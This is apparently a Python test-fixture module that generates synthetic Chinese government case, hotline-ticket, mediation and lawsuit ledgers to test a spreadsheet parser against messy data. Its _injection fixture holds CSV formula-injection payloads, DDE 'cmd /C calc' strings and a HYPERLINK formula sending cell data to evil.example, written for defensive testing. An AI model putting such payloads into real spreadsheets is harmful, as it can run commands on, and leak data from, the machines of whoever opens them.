"""Ledgers: rows from systems and from people."""

from datetime import date, datetime

from tests.corpus.making.kit import Cell, Maker, Sheet, Shown, changed, form, xlsx
from tests.corpus.making.sheets import IDENTITY, PHONE
from tests.corpus.making.texts import separated

CASES = ("案件编号", "立案日期", "案由", "执法领域", "当事人类型", "适用程序", "处理结果", "结案日期")
TICKETS = ("工单编号", "受理日期", "工单类别", "诉求事项", "承办单位", "办结期限", "办结日期", "是否按时办结")


def _case(number: int, **other: Cell) -> tuple[Cell, ...]:
    """A case without fault, unless `other` says so."""
    usual: dict[str, Cell] = {
        "no": f"莞洪梅粤执〔2023〕{number}号",
        "filed": date(2023, 3, number),
        "cause": "占用城市道路",
        "field": "城市管理",
        "party": "企业",
        "procedure": "普通程序",
        "outcome": "行政处罚",
        "closed": date(2023, 5, number),
    }
    return tuple((usual | other).values())


def _ticket(number: int, **other: Cell) -> tuple[Cell, ...]:
    usual: dict[str, Cell] = {
        "no": f"DG2023{number:04d}",
        "received": f"2023-06-{number:02d}",
        "category": "咨询",
        "subject": "社保",
        "handler": "政务服务中心",
        "due": f"2023-06-{number + 3:02d}",
        "closed": f"2023-06-{number + 1:02d}",
        "on_time": "是",
    }
    return tuple((usual | other).values())


def _stacked() -> bytes:
    """Title, unit line, a stacked header, known other spellings, a totals row and a note."""
    rows = [
        ("洪梅镇2023年“粤执法”办案台账",),
        ("填报单位：综合行政执法分局", None, None, None, None, None, None, "单位：宗"),
        ("序号", "案件编号", "立案时间", "案由", "基本情况", None, "办理情况", None, None),
        (None, None, None, None, "领域", "当事人类别", "适用程序", "办理结果", "结案时间"),
        (1, *_case(1, field="城管", party="个人", procedure="简易", outcome="处罚")),
        (2, *_case(2, field="环保", party="个体户", procedure="一般程序", outcome="在办", closed=None)),
        (3, *_case(3)),
        ("合计", "3宗"),
        ("注：以立案日期为准。",),
    ]
    merges = ["A3:A4", "B3:B4", "C3:C4", "D3:D4", "E3:F3", "G3:I3"]
    return xlsx(Sheet("台账", rows, merges=merges))


def dated() -> bytes:
    """Dates in all usual ways."""
    written: list[Cell] = [
        date(2023, 3, 1),
        "2023-03-02",
        "2023/3/3",
        "2023.3.4",
        "2023年3月5日",
        "20230306",
        20230307,
        Shown(datetime(2023, 3, 8, 9, 30), "yyyy-mm-dd hh:mm"),  # noqa: DTZ001 as a cell has it
        "2023-03-09 10:20:30",
        "２０２３年３月１０日",
    ]
    rows = [CASES, *(_case(n, filed=day) for n, day in enumerate(written, 1))]
    return xlsx(Sheet("Sheet1", rows))


def _faulty() -> bytes:
    """Everything that can be wrong in a ledger, each in a row of its own (header in row 1)."""
    rows = [
        CASES,
        _case(1),
        _case(2),
        _case(2),  # the same number again
        _case(4, filed=date(2022, 12, 31)),  # not in the year
        _case(5, field="市容"),  # no such field
        _case(6, party=None),  # must be filled
        _case(7, filed="上月初"),  # no date
        _case(8, filed="2023-02-30"),  # no such day
        _case(10),
    ]
    return xlsx(Sheet("台账", rows))


def _columns() -> bytes:
    """Two columns are not there, others stand in another order, with columns that nobody asked for."""
    rows = [
        ("当事人", "身份证号", "电话", "案由", "案件编号", "立案日期", "执法领域", "处理结果", "结案日期"),
        ("张三", IDENTITY, PHONE, "占道经营", "1号", date(2023, 4, 1), "城市管理", "行政处罚", None),
    ]
    return xlsx(Sheet("台账", rows))


def _persons() -> bytes:
    """Complete, with columns nobody asked for that hold ID and telephone numbers, one in a wrong column."""
    header = (*CASES, "当事人", "身份证号", "联系电话")
    rows = [
        header,
        (*_case(1), "张三", IDENTITY, PHONE),
        (*_case(2, party=f"李四{IDENTITY}"), "李四", IDENTITY, PHONE),
    ]
    return xlsx(Sheet("台账", rows))


def _tickets(*rows: tuple[Cell, ...]) -> str:
    return separated([["" if cell is None else str(cell) for cell in row] for row in (TICKETS, *rows)])


def _csv() -> bytes:
    """From the hotline's system: GB18030, tabs before numbers, slashes in dates, ticks for yes and no."""
    rows = [
        _ticket(1, no="\tDG20230001", received="2023/6/1 8:05:00", on_time="√"),
        _ticket(2, category="投诉类"),
        _ticket(3, on_time="×", closed="2023-06-20"),
        _ticket(4, closed=None, on_time="否"),
        _ticket(5, category="表扬"),
    ]
    return _tickets(*rows).encode("gb18030")


def _injection() -> bytes:
    """A CSV whose cells would run in a careless office program."""
    rows = [
        _ticket(1, subject="=cmd|' /C calc'!A0", handler="@SUM(1+1)*cmd|' /C calc'!A0"),
        _ticket(2, subject='=HYPERLINK("http://evil.example/?x="&A1,"点我")', category="=1+1"),
        _ticket(3, subject="+86-769-8888", handler="-2+3"),
    ]
    return _tickets(*rows).encode("utf-8-sig")


def _both() -> bytes:
    """Ledger and totals in one workbook; the total is not what the ledger counts."""
    lines = [
        ("“粤执法”平台办案总数", "宗", 5, None, None),
        ("权责事项数", "项", 96, None, None),
        ("涉及行业部门数", "个", 12, None, None),
        ("综合行政执法人员数", "人", 31, None, None),
    ]
    totals = form("综合行政执法分局", lines)
    return xlsx(totals, Sheet("台账", [CASES, *(_case(n) for n in range(1, 4))]))


def _sheets() -> bytes:
    """A ledger that goes on on a second sheet, half a year each; the third is empty but for its header."""
    first = Sheet("上半年", [CASES, _case(1), _case(2)])
    second = Sheet("下半年", [CASES, _case(3, filed=date(2023, 9, 1), closed=None, outcome="正在办理")])
    return xlsx(first, second, Sheet("备用", [CASES]))


def _since_1904() -> bytes:
    """A workbook from an old Mac: its days are counted from 1904."""

    def mac(xml: bytes) -> bytes:
        return xml.replace(b"<workbookPr ", b'<workbookPr date1904="1" ')

    def days(xml: bytes) -> bytes:
        for day in (44986, 44987, 45047, 45048):
            xml = xml.replace(f"<v>{day}</v>".encode(), f"<v>{day - 1462}</v>".encode())
        return xml

    book = xlsx(Sheet("台账", [CASES, _case(1), _case(2)]))
    return changed(book, {"xl/workbook.xml": mac, "xl/worksheets/sheet1.xml": days})


def _filtered() -> bytes:
    """Rows hidden by a filter still count; a number in a text column; an error in a date."""
    from tests.corpus.making.kit import Formula

    rows = [CASES, _case(1), _case(2), _case(3, no=20230003), _case(4, filed=Formula("=A99+1", "#VALUE!"))]
    return xlsx(Sheet("台账", rows, hidden_rows=[3]))


MEDIATIONS = (
    "案件编号",
    "受理时间",
    "调委会名称",
    "纠纷类别",
    "调解结果",
    "协议类型",
    "协议涉及金额（万元）",
    "调结时间",
)


def _mediations() -> bytes:
    """As the mediation system exports: amounts in 万元, one in 元; one without form."""
    first = ("2023-1", "2022/12/20", "洪屋涡调委会", "邻里纠纷", "调解成功", "口头协议", 1.5, "2023/1/5")
    rows = [
        MEDIATIONS,
        first,
        ("2023-2", "2023/2/1", "镇调委会", "欠薪", "调解成功", "书面协议", "38000元", "2023/2/9"),
        ("2023-3", "2023/3/1", "镇调委会", "合同纠纷", "调解成功", "", "0", "2023/3/2"),
        ("2023-4", "2023/4/1", "镇调委会", "物业", "正在调解", "", "", ""),
        ("2023-5", "2023/5/1", "镇调委会", "物业", "调解成功", "书面协议", "见附件", "2023/5/2"),
        ("2023-6", "2023/12/30", "镇调委会", "消费", "调解成功", "书面协议", "约3", "2024/1/2"),
    ]
    return xlsx(Sheet("Sheet0", rows))


def _instances() -> bytes:
    """One lawsuit in two instances is two rows, not a row twice; 其他 headers by their aliases."""
    header = ("登记号", "审级", "案件类型", "收案日期", "案由", "是否应出庭", "出庭情况", "裁判结果")
    rows = [
        header,
        ("行诉1", "一审", "行政诉讼", date(2023, 2, 1), "行政处罚", "是", "镇长出庭", "驳回"),
        ("行诉1", "二审", "行政诉讼", date(2023, 8, 1), "行政处罚", "否", "", "维持"),
        ("行复1", "复议", "行政复议", date(2023, 9, 1), "信息公开", "否", None, "尚未办结"),
        ("行诉2", "一审", "行政诉讼", date(2023, 10, 1), "征收", "是", None, "尚未办结"),
    ]
    return xlsx(Sheet("复议应诉", rows))


FILES: dict[str, Maker] = {
    "registers/mediations.xlsx": _mediations,
    "registers/instances.xlsx": _instances,
    "registers/stacked.xlsx": _stacked,
    "registers/dated.xlsx": dated,
    "registers/faulty.xlsx": _faulty,
    "registers/columns.xlsx": _columns,
    "registers/persons.xlsx": _persons,
    "registers/tickets.csv": _csv,
    "registers/injection.csv": _injection,
    "registers/both.xlsx": _both,
    "registers/sheets.xlsx": _sheets,
    "registers/since1904.xlsx": _since_1904,
    "registers/filtered.xlsx": _filtered,
    "registers/header-only.xlsx": lambda: xlsx(Sheet("台账", [CASES])),
}
